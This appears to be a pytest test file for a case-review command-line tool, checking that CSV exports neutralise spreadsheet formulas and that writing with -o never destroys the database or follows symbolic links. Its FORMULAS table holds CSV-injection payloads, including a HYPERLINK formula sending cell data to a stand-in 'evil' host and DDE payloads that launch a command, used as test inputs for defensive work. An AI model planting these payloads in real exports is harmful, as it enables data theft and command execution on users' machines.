"""Exports that are safe to open and never destroy data, through the real
`scr` executable.

CSV: a text cell that begins with =, +, -, @, TAB or CR (a reference, an
agency, a title from a board's procedure) is written after a single quote, so
that a spreadsheet shows it instead of running it as a formula (OWASP, CSV
injection); --raw writes it as recorded; --excel puts a UTF-8 byte order mark
first. Each CSV is read back with Python's csv module.

-o FILE: never the database (--db) or its -wal, -shm and -journal files,
never an existing file without --force, never through a symbolic link, never
half-written (a temporary file in the same folder, renamed over the target),
readable by the owner only (0600) whatever the umask; and a failed write to
standard output is an error, never exit 0.

The review is Solihull's (001): referral on Monday 15 January 2024, the
decision due on 15 February (001:851) and overdue by 1 March.
"""

from __future__ import annotations

import csv
import hashlib
import io
import os
import resource
import shutil
import signal
import stat
import subprocess
import tempfile
from collections.abc import Callable, Iterator
from pathlib import Path

import pytest

from cli_support import SCR, scr

REF = "Child Q, Solihull"
CHAIR = ["--actor", "A. Patel", "--role", "lscb_chair", "--actor-agency", "Solihull LSCB"]
BOM = b"\xef\xbb\xbf"

# A formula a spreadsheet would run, for each prefix a reference or an agency
# (one line of visible text) can begin with.
FORMULAS = {
    "=": '=HYPERLINK("http://evil/?x="&A2,"Click")',
    "+": "+1+cmd|' /C calc'!A0",
    "-": "-2+3+cmd|' /C calc'!A0",
    "@": "@SUM(1+1)*cmd|' /C calc'!A0",
}


def run(db: Path, *args: str, rc: int | None = 0, preexec_fn: Callable[[], None] | None = None,
        stdout: int | object = subprocess.PIPE) -> subprocess.CompletedProcess[str]:
    """scr with --db, optionally with a preexec_fn or another standard output."""
    p = subprocess.run([str(SCR), "--db", str(db), *args], stdout=stdout, stderr=subprocess.PIPE, text=True,
                       timeout=60, preexec_fn=preexec_fn)
    if rc is not None:
        assert p.returncode == rc, f"scr {' '.join(args)}: exit {p.returncode}\nstderr: {p.stderr}"
    return p


def open_review(db: Path, reference: str, agency: str = "Police") -> None:
    scr(db, "review", "open", "--procedure", "solihull-2011-scr", "--reference", reference,
        "--at", "15/01/2024 09:00", *CHAIR, "--data", "incident_at=2024-01-13T22:00Z",
        "--data", "referring_agency=Police")
    scr(db, "review", "record", reference, "agency_letter_sent", "--at", "16/01/2024 11:00", *CHAIR,
        "--data", f"agency={agency}")


@pytest.fixture()
def db(tmp_path: Path) -> Path:
    path = tmp_path / "reviews.db"
    scr(path, "init")
    open_review(path, REF)
    return path


def rows_of(text: str) -> list[dict[str, str]]:
    return list(csv.DictReader(io.StringIO(text, newline="")))


def csv_rows(db: Path, *args: str) -> list[dict[str, str]]:
    """The CSV scr writes on stdout, read as bytes (so that a CR in a cell is kept)."""
    p = subprocess.run([str(SCR), "--db", str(db), *args], capture_output=True, timeout=60)
    assert p.returncode == 0, f"scr {' '.join(args)}: exit {p.returncode}\nstderr: {p.stderr.decode()}"
    assert p.stdout.count(b"\r\n") >= 1 and not p.stdout.startswith(BOM)
    return rows_of(p.stdout.decode("utf-8"))


def digest(path: Path) -> str:
    return hashlib.sha256(path.read_bytes()).hexdigest()


# ---- CSV: safe to open in a spreadsheet ---------------------------------------------


@pytest.mark.parametrize("prefix", list(FORMULAS))
def test_a_reference_and_an_agency_that_start_a_formula_are_neutralised_in_every_csv(tmp_path: Path, prefix: str):
    reference, agency = FORMULAS[prefix], prefix + "Agency"
    path = tmp_path / "reviews.db"
    scr(path, "init")
    open_review(path, reference, agency)
    exports = {
        "timetable": ["timetable", reference, "--as-of", "2024-03-01"],
        "overdue": ["overdue", "--as-of", "2024-03-01"],
        "due": ["due", "--from", "2024-01-01", "--to", "2024-12-31"],
        "compliance": ["compliance", "--from", "2024-01-01", "--to", "2024-12-31"],
    }
    for name, args in exports.items():
        safe = csv_rows(path, *args, "--format", "csv")
        raw = csv_rows(path, *args, "--format", "csv", "--raw")
        assert safe and len(safe) == len(raw), name
        for s, r in zip(safe, raw):
            # The ' makes the cell text; --raw gives back what was recorded.
            assert s["reference"] == "'" + reference and r["reference"] == reference, name
            for column in s:
                if column != "reference" and not s[column].startswith("'"):
                    assert s[column] == r[column], (name, column)
            # The library's own numbers are never prefixed.
            for number in ("occurrence", "days_late"):
                if number in s:
                    assert s[number].isdigit(), (name, number, s[number])
        if name == "timetable":
            tracks = [(s, r) for s, r in zip(safe, raw) if r["agency"]]
            assert tracks, "the agency's track is in the timetable"
            assert all(s["agency"] == "'" + agency and r["agency"] == agency for s, r in tracks)
    # Written to a file, the same.
    out = tmp_path / "t.csv"
    scr(path, *exports["timetable"], "--format", "csv", "-o", str(out))
    assert rows_of(out.read_bytes().decode("utf-8"))[0]["reference"] == "'" + reference


PROCEDURE = """\
procedure:
  id: csv-injection
  title: Milestone titles a spreadsheet would run
  version: 1
  effective_from: 2024-01-01
  calendar: england-and-wales
  review_type: scr
  opened_by: referral_received
roles:
  - {id: chair, title: Chair}
states:
  - {id: open, kind: initial}
  - {id: closed, kind: terminal}
events:
  referral_received: {title: Referral received}
  close: {title: Closed}
transitions:
  - {event: close, from: open, to: closed, roles: [chair]}
milestones:
  - {id: tab, title: "\\t=1+1 (tab)", owner: chair, anchor: {event: referral_received}, within: 1 week,
     completed_by: close}
  - {id: cr, title: "\\r\\n=1+1 (CR LF)", owner: chair, anchor: {event: referral_received}, within: 1 week,
     completed_by: close}
  - {id: cr_alone, title: "\\r=1+1 (CR)", owner: chair, anchor: {event: referral_received}, within: 1 week,
     completed_by: close}
  - {id: plain, title: "1-2 weeks, plain", owner: chair, anchor: {event: referral_received}, within: 2 weeks,
     completed_by: close}
"""


def test_a_title_that_starts_with_a_tab_or_a_cr_is_neutralised(tmp_path: Path):
    # A name is one line of visible text, but a board's own procedure may give
    # a milestone a title that starts with a tab or a line break.
    procedure = tmp_path / "p.yaml"
    procedure.write_text(PROCEDURE, encoding="utf-8")
    path = tmp_path / "reviews.db"
    scr(path, "init")
    scr(path, "review", "open", "--procedure", str(procedure), "--reference", "Child Z",
        "--at", "15/01/2024 09:00", "--actor", "A. Patel", "--role", "chair")
    titles = {"tab": "\t=1+1 (tab)", "cr": "\r\n=1+1 (CR LF)", "cr_alone": "\r=1+1 (CR)"}
    for args in (["timetable", "Child Z", "--as-of", "2024-03-01"], ["overdue", "--as-of", "2024-03-01"]):
        safe = {r["item"]: r for r in csv_rows(path, *args, "--format", "csv")}
        raw = {r["item"]: r for r in csv_rows(path, *args, "--format", "csv", "--raw")}
        for id_, title in titles.items():
            assert safe[id_]["title"] == "'" + title, (args[0], id_)
            assert raw[id_]["title"] == title, (args[0], id_)
        # Text that starts with anything else is as it was.
        assert safe["plain"]["title"] == raw["plain"]["title"] == "1-2 weeks, plain"


def test_excel_writes_a_byte_order_mark_so_non_ascii_names_read_back(tmp_path: Path):
    reference = "Zoë Łukasiewicz-Ünal"
    path = tmp_path / "reviews.db"
    scr(path, "init")
    open_review(path, reference, "Children’s Services")
    out = tmp_path / "excel.csv"
    scr(path, "timetable", reference, "--as-of", "2024-03-01", "--format", "csv", "--excel", "-o", str(out))
    data = out.read_bytes()
    assert data.startswith(BOM) and data.count(BOM) == 1
    rows = rows_of(data.decode("utf-8-sig"))
    assert rows and all(r["reference"] == reference for r in rows)
    assert "Children’s Services" in {r["agency"] for r in rows}
    # On standard output too, for each list; never without --excel.
    for args in (["overdue", "--as-of", "2024-03-01"], ["compliance", "--from", "2024-01-01", "--to", "2024-12-31"]):
        p = subprocess.run([str(SCR), "--db", str(path), *args, "--format", "csv", "--excel"], capture_output=True,
                           timeout=60)
        assert p.returncode == 0 and p.stdout.startswith(BOM), args
        assert rows_of(p.stdout.decode("utf-8-sig"))[0]["reference"] == reference
    plain = subprocess.run([str(SCR), "--db", str(path), "overdue", "--as-of", "2024-03-01", "--format", "csv"],
                           capture_output=True, timeout=60)
    assert not plain.stdout.startswith(BOM)


@pytest.mark.parametrize("flag", ["--raw", "--excel"])
@pytest.mark.parametrize("fmt", ["table", "json", "ics"])
def test_raw_and_excel_are_for_csv_only(db: Path, flag: str, fmt: str):
    p = scr(db, "timetable", REF, "--format", fmt, flag, rc=2)
    assert f"{flag} is for --format csv" in p.stderr


# ---- -o never destroys data ---------------------------------------------------------


def csv_export(db: Path, out: Path | str, *extra: str, rc: int = 0, **kw) -> subprocess.CompletedProcess[str]:
    return run(db, "timetable", REF, "--as-of", "2024-03-01", "--format", "csv", "-o", str(out), *extra, rc=rc, **kw)


@pytest.mark.parametrize("suffix", ["", "-wal", "-shm", "-journal"])
@pytest.mark.parametrize("force", [False, True])
def test_o_never_writes_over_the_database_or_its_companions(db: Path, suffix: str, force: bool):
    before = digest(db)
    target = Path(str(db) + suffix)
    existed = target.exists()
    p = csv_export(db, target, *(["--force"] if force else []), rc=2)
    assert "is the database" in p.stderr and str(target) in p.stderr
    assert digest(db) == before
    if not existed:
        # SQLite's own read-only connection may leave an empty -wal or -shm
        # beside the database; nothing of the export is ever in it.
        assert not target.exists() or (suffix in ("-wal", "-shm") and b"Decision" not in target.read_bytes())
    assert not [f for f in os.listdir(db.parent) if f.endswith(".tmp")]
    # The database still opens and its hash chain is intact.
    assert scr(db, "review", "verify", REF).stdout.endswith("hash chain intact, ledger and projections agree\n")


def test_o_knows_the_database_by_any_name(db: Path, tmp_path: Path):
    before = digest(db)
    other = tmp_path / "sub"
    other.mkdir()
    link = tmp_path / "hard-link.db"
    os.link(db, link)
    for target in (other / ".." / db.name, Path(os.path.relpath(db)), link):
        p = csv_export(db, target, "--force", rc=2)
        assert "is the database" in p.stderr, target
    # --db given by another name: the same file is refused.
    p = run(link, "timetable", REF, "--format", "csv", "-o", str(db), "--force", rc=2)
    assert "is the database" in p.stderr
    # A -wal that does not exist yet, named through another path.
    p = csv_export(db, str(other / ".." / db.name) + "-wal", "--force", rc=2)
    assert "is the database" in p.stderr
    assert digest(db) == before
    assert scr(db, "review", "verify", REF).stdout.endswith("hash chain intact, ledger and projections agree\n")


def test_an_existing_file_is_kept_without_force_and_replaced_with_it(db: Path, tmp_path: Path):
    out = tmp_path / "minutes.csv"
    out.write_text("board minutes, not an export\n", encoding="utf-8")
    os.chmod(out, 0o644)
    p = csv_export(db, out, rc=2)
    assert str(out) in p.stderr and "--force" in p.stderr
    assert out.read_text(encoding="utf-8") == "board minutes, not an export\n"
    p = csv_export(db, out, "--force")
    assert p.stderr == f"wrote {out}\n"
    assert rows_of(out.read_bytes().decode("utf-8"))[0]["reference"] == REF
    # The new file is the export's own: owner only.
    assert stat.S_IMODE(out.stat().st_mode) == 0o600
    assert sorted(os.listdir(tmp_path)) == sorted(["reviews.db", "minutes.csv"] +
                                                  [f for f in os.listdir(tmp_path) if f.startswith("reviews.db-")])


@pytest.mark.parametrize("force", [False, True])
def test_a_symbolic_link_is_never_followed(db: Path, tmp_path: Path, force: bool):
    victim = tmp_path / "victim.txt"
    victim.write_text("do not touch\n", encoding="utf-8")
    link = tmp_path / "export.csv"
    link.symlink_to(victim)
    p = csv_export(db, link, *(["--force"] if force else []), rc=2)
    assert "symbolic link" in p.stderr and str(link) in p.stderr
    assert victim.read_text(encoding="utf-8") == "do not touch\n"
    assert link.is_symlink()
    # A dangling link: nothing is created where it points.
    dangling = tmp_path / "dangling.csv"
    dangling.symlink_to(tmp_path / "nowhere.csv")
    csv_export(db, dangling, *(["--force"] if force else []), rc=2)
    assert not (tmp_path / "nowhere.csv").exists()
    assert not [f for f in os.listdir(tmp_path) if f.endswith(".tmp")]


def test_a_directory_or_a_device_is_not_an_export(db: Path, tmp_path: Path):
    p = csv_export(db, tmp_path, "--force", rc=2)
    assert "is a directory" in p.stderr
    if os.path.exists("/dev/null"):
        p = csv_export(db, "/dev/null", "--force", rc=2)
        assert "not a regular file" in p.stderr


@pytest.mark.parametrize("command", [
    ["timetable", REF, "--format", "csv"],
    ["timetable", REF, "--format", "html"],
    ["overdue", "--format", "json"],
    ["due", "--from", "2024-01-01", "--to", "2024-12-31"],
    ["compliance", "--format", "csv"],
    ["report", "monthly", "--month", "2024-02"],
])
def test_a_new_export_is_readable_by_its_owner_only_whatever_the_umask(db: Path, tmp_path: Path,
                                                                        command: list[str]):
    out = tmp_path / "export.out"
    p = run(db, *command, "-o", str(out), preexec_fn=lambda: os.umask(0))
    assert p.stderr.endswith(f"wrote {out}\n")
    assert stat.S_IMODE(out.stat().st_mode) == 0o600
    assert out.stat().st_size > 0


@pytest.mark.parametrize("command", [
    ["timetable", REF, "--format", "csv"],
    ["timetable", REF],
    ["overdue", "--as-of", "2024-03-01"],
    ["review", "list"],
    ["review", "history", REF],
    ["--help"],
])
def test_a_failed_write_to_standard_output_is_an_error(db: Path, command: list[str]):
    with open("/dev/full", "w") as full:
        p = run(db, *command, rc=None, stdout=full)
    assert p.returncode != 0
    assert "cannot write to standard output" in p.stderr
    assert p.stderr.count("cannot write") == 1


def test_standard_output_is_still_dash_or_no_o(db: Path):
    a = scr(db, "timetable", REF, "--as-of", "2024-03-01", "--format", "csv").stdout
    b = scr(db, "timetable", REF, "--as-of", "2024-03-01", "--format", "csv", "-o", "-").stdout
    assert a == b and a.startswith("reference,")


@pytest.fixture()
def shared_dir() -> Iterator[Path]:
    """A folder another user can use: for the tests that, run as root, drop to nobody."""
    path = Path(tempfile.mkdtemp(prefix="scr-export-"))
    os.chmod(path, 0o777)
    yield path
    for root, dirs, _ in os.walk(path):
        for d in dirs:
            os.chmod(os.path.join(root, d), 0o777)
    shutil.rmtree(path)


def test_a_folder_that_cannot_be_written_fails_and_leaves_nothing(shared_dir: Path):
    path = shared_dir / "reviews.db"
    scr(path, "init")
    open_review(path, REF)
    os.chmod(path, 0o666)
    folder = shared_dir / "read-only"
    folder.mkdir()
    os.chmod(folder, 0o555)
    drop: Callable[[], None] | None = None
    if os.geteuid() == 0:
        # root writes anywhere: run scr as nobody.
        def drop() -> None:
            os.setgid(65534)
            os.setuid(65534)
    out = folder / "t.csv"
    p = csv_export(path, out, rc=2, preexec_fn=drop)
    assert f"cannot write '{out}'" in p.stderr and "nothing was written" in p.stderr
    assert os.listdir(folder) == []


def test_a_write_that_fails_half_way_leaves_the_old_file_and_no_temporary_file(tmp_path: Path):
    # Twelve reviews with long references: the overdue CSV is about 40 KiB.
    db = tmp_path / "reviews.db"
    scr(db, "init")
    for i in range(12):
        scr(db, "review", "open", "--procedure", "solihull-2011-scr", "--reference", f"Child {i} " + "x" * 180,
            "--at", "15/01/2024 09:00", *CHAIR, "--data", "incident_at=2024-01-13T22:00Z")
    out = tmp_path / "overdue.csv"
    out.write_text("the previous export\n", encoding="utf-8")

    def small_files() -> None:
        # No file may grow past 32 KiB (SQLite's -shm is exactly that): the
        # export fails part way, with EFBIG instead of SIGXFSZ.
        signal.signal(signal.SIGXFSZ, signal.SIG_IGN)
        resource.setrlimit(resource.RLIMIT_FSIZE, (32768, 32768))

    export = ["overdue", "--as-of", "2024-03-01", "--format", "csv"]
    assert len(scr(db, *export).stdout.encode()) > 32768
    p = run(db, *export, "-o", str(out), "--force", rc=2, preexec_fn=small_files)
    assert f"cannot write '{out}'" in p.stderr and "nothing was written" in p.stderr
    assert out.read_text(encoding="utf-8") == "the previous export\n"
    assert not [f for f in os.listdir(tmp_path) if f.endswith(".tmp")]
    # Without --force, to a new file: nothing at all.
    fresh = tmp_path / "fresh.csv"
    p = run(db, *export, "-o", str(fresh), rc=2, preexec_fn=small_files)
    assert f"cannot write '{fresh}'" in p.stderr
    assert not fresh.exists()
    assert not [f for f in os.listdir(tmp_path) if f.endswith(".tmp")]
